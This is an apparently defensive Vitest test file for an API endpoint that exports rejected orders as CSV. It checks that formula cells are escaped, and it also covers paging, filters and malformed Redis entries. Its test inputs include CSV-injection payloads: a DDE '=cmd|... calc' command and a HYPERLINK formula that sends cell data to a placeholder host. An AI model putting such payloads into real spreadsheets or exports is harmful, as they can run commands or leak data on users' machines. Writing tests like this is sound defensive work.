import { afterAll, beforeAll, expect, test } from 'vitest'
import { openTestApi, type TestApi } from '../../../support/api.ts'
import { csvRows } from '../../../support/csv.ts'
import { rejectBodies } from '../../../support/invalid.ts'

let api: TestApi
let ids: readonly string[]

const hostile = [
  '{"user_id":"=cmd|\' /C calc\'!A0","order_id":"a,\\"b\\"\\r\\nc","order_value":"10.00"}',
  '=HYPERLINK("http://x.example/"&A1)',
  '{ "user_id": 12345678901234567890, "order_id": "o", "order_value": -1.50 }',
  `${'['.repeat(1_000)}`,
  '',
]

beforeAll(async () => {
  api = await openTestApi({ RETRY_CODES: 'bad-value' })
  ids = await rejectBodies(api.app, hostile)
})
afterAll(() => api[Symbol.asyncDispose]())

async function getCsv(query = '') {
  const response = await fetch(`${api.url}/orders/invalid${query}`, { headers: { accept: 'text/csv' } })
  const text = await response.text()
  return { status: response.status, headers: response.headers, rows: response.ok ? csvRows(text) : [], text }
}

test('GET /orders/invalid is CSV where a client asks for it: one row an order, with what was sent to the character', async () => {
  const { status, headers, rows } = await getCsv()
  expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8'])
  const [columns = [], ...orders] = rows
  expect(columns.join()).toBe('id,ts,code,reason,hint,stage,attempts,retry,user_id,order_id,sent')
  const read = orders.map((row) => Object.fromEntries(row.map((cell, at) => [columns[at], cell]))).reverse()
  const listed = (await (await fetch(`${api.url}/orders/invalid`)).json()) as Record<string, unknown>[]
  expect(read.map((one) => one['id'])).toEqual(ids)
  for (const [at, json] of listed.reverse().entries()) {
    for (const name of ['ts', 'code', 'reason', 'hint'])
      expect([at, name, read[at]?.[name]]).toEqual([at, name, json[name] ?? ''])
  }
  const asText = (body: string): string => (body.startsWith('=') ? `'${body}` : body)
  expect(read.map((one) => one['sent'])).toEqual(hostile.map(asText))
  expect(read.map((one) => one['attempts'])).toEqual(['1', '1', '1', '1', '1'])
  expect(read.map((one) => [one['user_id'], one['order_id']])).toEqual([
    ["'=cmd|' /C calc'!A0", 'a,"b"\r\nc'],
    ['', ''],
    ['12345678901234567890', 'o'],
    ['', ''],
    ['', ''],
  ])
  const isTime = read.map((one) => Number.isFinite(Date.parse(one['retry'] ?? '')))
  expect(isTime).toEqual([true, false, true, false, false]) // by RETRY_CODES
})

test('it has the pages and filters of the list', async () => {
  const { headers, rows } = await getCsv('?limit=2')
  expect(headers.get('link')).toBe(`<?limit=2&before=${ids.at(-2)}>; rel="next"`)
  expect(rows.slice(1).map(([id]) => id)).toEqual([ids.at(-1), ids.at(-2)])
  expect((await getCsv('?code=bad-value')).rows.slice(1).map(([id]) => id)).toEqual([ids[2], ids[0]])
  expect((await getCsv('?code=conflict')).text).toBe(
    'id,ts,code,reason,hint,stage,attempts,retry,user_id,order_id,sent\r\n',
  )
  expect((await getCsv('?limit=0')).headers.get('content-type')).toMatch('application/problem+json')
})

test('what other programs wrote to the channel does not break it', async () => {
  await api.redis.xadd('orders:invalid', '*', 'some', 'thing')
  await api.redis.xadd('orders:invalid', '*', 'code', 'bad-value', 'record', '{"order":{"user_id":{"a":1}},"code":7}')
  await api.redis.xadd('orders:invalid', '*', 'code', 'bad-value', 'record', '{"order":[],"retry":5}')
  const { status, rows } = await getCsv('?limit=3')
  expect([status, rows.map(({ length }) => length)]).toEqual([200, [11, 11, 11, 11]])
})
